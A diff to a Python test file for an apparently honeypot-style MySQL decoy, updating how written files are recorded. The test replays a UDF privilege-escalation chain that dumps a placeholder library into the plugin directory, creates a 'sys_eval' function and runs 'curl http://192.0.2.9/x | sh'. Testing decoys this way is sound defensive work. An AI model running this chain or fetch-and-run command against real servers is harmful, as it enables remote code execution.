@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 from decnet_decoys.mysql import packets
 from decnet_decoys.mysql.authentication import CACHING_SHA2, NATIVE, for_crackers, found, response, unmasked
-from decnet_decoys.mysql.catalogue import Catalogue, Done, Failed, Found, Visitor
+from decnet_decoys.mysql.catalogue import Catalogue, Done, Failed, Found, Visitor, Written
 from decnet_decoys.mysql.profile import MysqlProfile, Table
 from decnet_decoys.mysql.statements import answer
 
@@ -156,7 +156,7 @@ def test_the_way_out_of_the_database_is_played_to_its_end() -> None:
     library = b"\x7fELF" + bytes(40_000)
     outcome, known = answer(one, f"select 0x{library.hex()} into dumpfile '/usr/lib/mysql/plugin/u.so'")
     assert (outcome, known) == (Done(1), True)
-    assert one.written == [("/usr/lib/mysql/plugin/u.so", library)]
+    assert one.written == [Written("/usr/lib/mysql/plugin/u.so", library, dumps=True)]
     assert answer(one, "create function sys_eval returns string soname 'u.so'") == (Done(), True)
     outcome, _ = answer(one, "select sys_eval('curl http://192.0.2.9/x | sh')")
     assert isinstance(outcome, Found)
